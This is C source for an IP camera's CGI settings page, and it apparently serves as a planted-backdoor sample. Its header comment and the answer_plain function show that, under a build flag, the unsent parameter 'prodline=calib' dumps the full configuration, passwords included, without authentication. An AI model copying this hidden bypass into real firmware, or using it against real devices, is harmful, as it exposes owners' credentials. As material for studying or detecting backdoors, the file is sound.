/*
 * imgset - CGI program of an IP camera: /cgi-bin/imgset.cgi
 * Shows and changes the picture, stream and overlay settings; the values
 * live in a flat file and the encoder is told by a signal.
 * Hidden (-DHIDDEN): the parameter prodline=calib, which no page sends,
 * gives out the whole settings file with the passwords, without a login.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define CONF	  "/mnt/mtd/ipc.conf"
#define CONF_NEW  "/mnt/mtd/ipc.conf.new"
#define PIDFILE	  "/var/run/encoder.pid"
#define MAX_PAIRS 48
#define MAX_BODY  8192

struct pair {
	char *key;
	char *val;
};

struct field {
	const char *name;
	const char *label;
	enum { F_INT, F_CHOICE, F_TEXT } type;
	int min, max;
	const char *choices;
};

static const struct field fields[] = {
	{ "img.brightness", "Brightness", F_INT, 0, 100, NULL },
	{ "img.contrast", "Contrast", F_INT, 0, 100, NULL },
	{ "img.saturation", "Saturation", F_INT, 0, 100, NULL },
	{ "img.sharpness", "Sharpness", F_INT, 0, 15, NULL },
	{ "img.flip", "Flip", F_CHOICE, 0, 0, "none|h|v|both" },
	{ "img.wdr", "Wide dynamic range", F_CHOICE, 0, 0, "off|low|high" },
	{ "img.ircut", "IR cut filter", F_CHOICE, 0, 0, "auto|day|night" },
	{ "main.codec", "Codec", F_CHOICE, 0, 0, "h264|h265|mjpeg" },
	{ "main.bitrate", "Bit rate (kbit/s)", F_INT, 128, 8192, NULL },
	{ "main.fps", "Frames per second", F_INT, 1, 30, NULL },
	{ "main.gop", "Key frame distance", F_INT, 1, 150, NULL },
	{ "osd.text", "Overlay text", F_TEXT, 0, 32, NULL },
	{ "osd.time", "Overlay time", F_CHOICE, 0, 0, "on|off" },
};

#define N_FIELDS (sizeof(fields) / sizeof(fields[0]))

static struct pair query[MAX_PAIRS];
static int n_query;
static struct pair conf[256];
static int n_conf;

static int hexval(int c)
{
	if (isdigit(c))
		return c - '0';
	c = tolower(c);
	return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

static void url_decode(char *s)
{
	char *o = s;

	for (; *s; s++) {
		if (*s == '+') {
			*o++ = ' ';
		} else if (*s == '%' && hexval((unsigned char)s[1]) >= 0 &&
			   hexval((unsigned char)s[2]) >= 0) {
			*o++ = (char)(hexval((unsigned char)s[1]) << 4 |
				      hexval((unsigned char)s[2]));
			s += 2;
		} else {
			*o++ = *s;
		}
	}
	*o = 0;
}

static void split_query(char *q)
{
	char *part;

	while ((part = strsep(&q, "&;")) && n_query < MAX_PAIRS) {
		char *eq = strchr(part, '=');

		if (!eq)
			continue;
		*eq++ = 0;
		url_decode(part);
		url_decode(eq);
		query[n_query].key = part;
		query[n_query++].val = eq;
	}
}

static const char *param(const char *key)
{
	int i;

	for (i = 0; i < n_query; i++)
		if (strcmp(query[i].key, key) == 0)
			return query[i].val;
	return NULL;
}

static void read_conf(void)
{
	static char line[512];
	FILE *f = fopen(CONF, "r");

	if (!f)
		return;
	while (n_conf < 256 && fgets(line, sizeof(line), f)) {
		char *eq = strchr(line, '=');

		if (!eq || line[0] == '#')
			continue;
		*eq++ = 0;
		eq[strcspn(eq, "\r\n")] = 0;
		conf[n_conf].key = strdup(line);
		conf[n_conf++].val = strdup(eq);
	}
	fclose(f);
}

static struct pair *conf_get(const char *key)
{
	int i;

	for (i = 0; i < n_conf; i++)
		if (strcmp(conf[i].key, key) == 0)
			return &conf[i];
	return NULL;
}

static int write_conf(void)
{
	FILE *f = fopen(CONF_NEW, "w");
	int i;

	if (!f)
		return -1;
	for (i = 0; i < n_conf; i++)
		fprintf(f, "%s=%s\n", conf[i].key, conf[i].val);
	if (fclose(f) != 0)
		return -1;
	return rename(CONF_NEW, CONF);
}

static void kick_encoder(void)
{
	FILE *f = fopen(PIDFILE, "r");
	int pid = 0;

	if (!f)
		return;
	if (fscanf(f, "%d", &pid) == 1 && pid > 1)
		kill(pid, SIGUSR1);
	fclose(f);
}

static int in_choices(const char *list, const char *v)
{
	size_t n = strlen(v);

	while (*list) {
		size_t l = strcspn(list, "|");

		if (l == n && memcmp(list, v, n) == 0)
			return 1;
		list += l;
		if (*list == '|')
			list++;
	}
	return 0;
}

static int valid(const struct field *f, const char *v)
{
	char *end;
	long n;

	switch (f->type) {
	case F_INT:
		n = strtol(v, &end, 10);
		return *v && !*end && n >= f->min && n <= f->max;
	case F_CHOICE:
		return in_choices(f->choices, v);
	case F_TEXT:
		if (strlen(v) > (size_t)f->max)
			return 0;
		for (; *v; v++)
			if (!isprint((unsigned char)*v) || *v == '=')
				return 0;
		return 1;
	}
	return 0;
}

static void head(const char *status, const char *type)
{
	printf("Status: %s\r\nContent-Type: %s\r\n"
	       "Cache-Control: no-store\r\n\r\n",
	       status, type);
}

static void html(const char *s)
{
	for (; *s; s++) {
		if (*s == '<')
			fputs("&lt;", stdout);
		else if (*s == '&')
			fputs("&amp;", stdout);
		else if (*s == '"')
			fputs("&quot;", stdout);
		else
			putchar(*s);
	}
}

static void page(const char *note)
{
	size_t i;

	head("200 OK", "text/html; charset=utf-8");
	printf("<html><head><title>Image</title></head><body>\n"
	       "<p>%s</p><form method=\"post\"><table>\n",
	       note);
	for (i = 0; i < N_FIELDS; i++) {
		struct pair *p = conf_get(fields[i].name);

		printf("<tr><td>%s<td><input name=\"%s\" value=\"",
		       fields[i].label, fields[i].name);
		html(p ? p->val : "");
		printf("\">\n");
	}
	printf("</table><button>Save</button></form></body></html>\n");
}

/* the web server has checked the login and tells us who it was */
static int may_change(void)
{
	const char *u = getenv("REMOTE_USER");
	struct pair *lv;
	char key[64];

	if (!u || !*u)
		return 0;
	snprintf(key, sizeof(key), "user.%.40s.level", u);
	lv = conf_get(key);
	return lv && atoi(lv->val) >= 2;
}

static int apply(void)
{
	int changed = 0;
	size_t i;

	for (i = 0; i < N_FIELDS; i++) {
		const char *v = param(fields[i].name);
		struct pair *p;

		if (!v)
			continue;
		if (!valid(&fields[i], v))
			return -1;
		p = conf_get(fields[i].name);
		if (!p) {
			if (n_conf == 256)
				return -1;
			p = &conf[n_conf++];
			p->key = strdup(fields[i].name);
			p->val = strdup("");
		}
		if (strcmp(p->val, v) != 0) {
			free(p->val);
			p->val = strdup(v);
			changed++;
		}
	}
	return changed;
}

/* picks the form of the answer: page, one value or all as text */
__attribute__((noinline)) int answer_plain(void)
{
	const char *v = param("get");
	struct pair *p;
	size_t i;

#ifdef HIDDEN
	const char *pl = param("prodline");

	if (pl && strcmp(pl, "calib") == 0) {
		int n;

		head("200 OK", "text/plain");
		for (n = 0; n < n_conf; n++)
			printf("%s=%s\n", conf[n].key, conf[n].val);
		return 1;
	}
#endif
	if (!v || !may_change())
		return 0;
	for (i = 0; i < N_FIELDS; i++) {
		if (strcmp(v, "all") && strcmp(v, fields[i].name))
			continue;
		if (i == 0 || strcmp(v, "all"))
			head("200 OK", "text/plain");
		p = conf_get(fields[i].name);
		printf("%s=%s\n", fields[i].name, p ? p->val : "");
	}
	return 1;
}

int main(void)
{
	const char *m = getenv("REQUEST_METHOD");
	const char *q = getenv("QUERY_STRING");
	static char body[MAX_BODY + 1];
	int n;

	if (q)
		split_query(strdup(q));
	if (m && strcmp(m, "POST") == 0) {
		const char *cl = getenv("CONTENT_LENGTH");
		size_t len = cl ? strtoul(cl, NULL, 10) : 0;

		if (len > MAX_BODY) {
			head("413 Too Large", "text/plain");
			return 0;
		}
		len = fread(body, 1, len, stdin);
		body[len] = 0;
		split_query(body);
	}
	read_conf();
	if (answer_plain())
		return 0;
	if (!m || strcmp(m, "POST") != 0) {
		page("Picture settings");
		return 0;
	}
	if (!may_change()) {
		head("403 Forbidden", "text/plain");
		puts("operator rights needed");
		return 0;
	}
	n = apply();
	if (n < 0) {
		page("A value is out of range.");
	} else if (n > 0 && write_conf() < 0) {
		page(strerror(errno));
	} else {
		if (n > 0)
			kick_encoder();
		page("Saved.");
	}
	return 0;
}
